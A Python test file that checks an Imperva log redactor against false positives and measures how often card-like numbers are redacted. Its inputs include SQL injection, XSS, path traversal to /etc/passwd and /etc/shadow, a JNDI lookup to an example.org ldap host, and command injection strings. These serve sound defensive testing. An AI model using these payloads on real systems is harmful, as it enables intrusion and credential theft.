"""What only looks like a secret stays as it is: of 10,000 harmless values at most one is changed."""

from __future__ import annotations

import hashlib
import json
import random
import string
import uuid
from collections import Counter
from collections.abc import Callable, Iterator

import pyarrow as pa
import pytest

from airflow_provider_imperva.events.parse import parse
from airflow_provider_imperva.events.schema.source import LogSource
from airflow_provider_imperva.privacy.redact import Redactor
from airflow_provider_imperva.testing.formats import write_body, write_event

EACH = 1000
"""How many harmless values of each kind."""


def fails_luhn(rng: random.Random) -> str:
    """An order number that begins as a card number does, and has a wrong check digit."""
    digits = "4" + "".join(rng.choices(string.digits, k=14))
    doubled = sum(sum(divmod(2 * int(digit), 10)) for digit in digits[::2]) + sum(map(int, digits[1::2]))
    return digits + str((-doubled + rng.randrange(1, 10)) % 10)


def words(rng: random.Random, length: int = 12) -> str:
    return "".join(rng.choices(string.ascii_lowercase, k=length))


KINDS: dict[str, Callable[[random.Random], str]] = {
    "names that only end like a secret's": lambda rng: (
        f"monkey={words(rng)}&tokenize={words(rng)}&turkey=1&keynote=2&bypass={rng.randrange(9)}&compass=N"
    ),
    "names that only begin like a secret's": lambda rng: (
        f"tokens={rng.randrange(999)}&max_tokens=4096&secretary={words(rng)}&authors={words(rng)}&pinned=1&panel=2"
    ),
    "names with a word in common": lambda rng: (
        f"zip_code={rng.randrange(99999)}&status_code=404&country_code=DE&order_state=open&siteid=7&cards=3&design=x"
    ),
    "codes and states that are short": lambda rng: f"code={rng.randrange(999)}&state=CA&nonce=1&lang={words(rng, 2)}",
    "secrets without a value": lambda rng: f"token=&password=&user={words(rng)}&sig=",
    "order numbers": lambda rng: f"order={fails_luhn(rng)}&page={rng.randrange(99)}",
    "times": lambda rng: f"t={rng.randrange(10**12, 2 * 10**12)}&us={rng.randrange(10**15, 2 * 10**15)}",
    "UUIDs": lambda rng: f"id={uuid.UUID(int=rng.getrandbits(128), version=4)}&trace={rng.getrandbits(128):032x}",
    "digests": lambda rng: f"v={hashlib.sha256(str(rng.random()).encode()).hexdigest()}&e={rng.getrandbits(64):x}",
    "decimals": lambda rng: f"lat={rng.uniform(-90, 90):.15f}&lon={rng.uniform(-180, 180):.15f}",
    "telephone numbers": lambda rng: f"tel=%2B49{rng.randrange(10**9, 10**10)}&fax=0{rng.randrange(10**10)}",
    "prose": lambda rng: f"basic information on bearer bonds and {words(rng)}, token of love, secret garden",
    "SQL injection": lambda rng: (
        f"id={rng.randrange(99)}' or 1=1 -- {words(rng)}&sort=name' union select null,version()--"
    ),
    "cross-site scripting": lambda rng: f"q=<script>alert({rng.randrange(9)})</script>&x=<img src=x onerror=alert(1)>",
    "path traversal": lambda rng: f"file=..%2f..%2fetc%2fpasswd%00{words(rng)}&page=../../../../etc/shadow",
    "template injection": lambda rng: f"name=${{jndi:ldap://{words(rng)}.example.org/a}}&y={{{{7*7}}}}",
    "command injection": lambda rng: f"host=127.0.0.1;cat /etc/passwd|id {words(rng)}&cmd=$(whoami)",
    "JSON": lambda rng: json.dumps(
        {"query": words(rng), "tokenCount": 3, "passed": True, "author": words(rng), "n": 1}
    ),
    "JSON with a secret's name as a value": lambda rng: json.dumps({"field": "password", "parameter": words(rng)}),
    "mail addresses": lambda rng: f"to={words(rng)}@example.org&see=http://www.example.org/a:80/@{words(rng)}",
    "masks of Imperva": lambda rng: f"XXX xxx.xxx.{rng.randrange(256)}.{rng.randrange(256)} ****",
    "user agents": lambda rng: f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/{rng.randrange(99)}.0 Safari/537.36",
}


def changed(texts: list[str]) -> Iterator[tuple[str, str]]:
    """Write texts as query strings, bodies and user agents of events, and yield those that are not as they were."""
    fields = [{"start": "1700000000000", "qstr": text, "postbody": text, "ref": text} for text in texts]
    body = write_body("LEEF", (write_event("LEEF", name="Normal", code=0, fields=one) for one in fields)).encode()
    for parsed in parse([body], LogSource(file="8416_1.log", sequence=1, format="LEEF")):
        redacted = Redactor().redact(parsed.events, parsed.quarantined).events
        for name in ("query_string", "request_body", "referrer"):
            for before, after in zip(parsed.events[name].to_pylist(), redacted[name].to_pylist(), strict=True):
                if before != after:
                    yield before, after


@pytest.mark.parametrize("kind", KINDS)
def test_harmless_values_stay_as_they_are(kind: str) -> None:
    rng = random.Random(kind)
    assert list(changed([KINDS[kind](rng) for _ in range(EACH)])) == []


def test_no_more_than_one_card_in_ten_is_a_chance_hit() -> None:
    """Digits that begin as a card number does and pass its check digit cannot be told from one; that is one in ten."""
    rng = random.Random(0)
    texts = pa.array([f"n=4{rng.randrange(10**15):015}" for _ in range(EACH)])
    redactor = Redactor()
    hits = Counter(redactor.redact_text(text) != text for text in texts.to_pylist())
    assert 0.05 * EACH < hits[True] < 0.15 * EACH


@pytest.mark.parametrize("between", [" ", "\t"])
def test_ids_of_events_stay_in_whole_lines(between: str) -> None:
    """One in ten passes the check digit of a card; what a client writes under such a name is still redacted."""
    card = "4111111111111111"
    pairs = [f"fileId={card}", "cn1=200", f"qstr=fileId={card}&n={card}", f"deviceExternalId={card}"]
    line = between.join(["CEF:0|Incapsula|SIEMintegration|1|1|Normal|0|", *pairs])
    expected = line.replace(f"qstr=fileId={card}&n={card}", "qstr=fileId=REDACTED&n=REDACTED")
    assert Redactor().redact_text(line) == expected
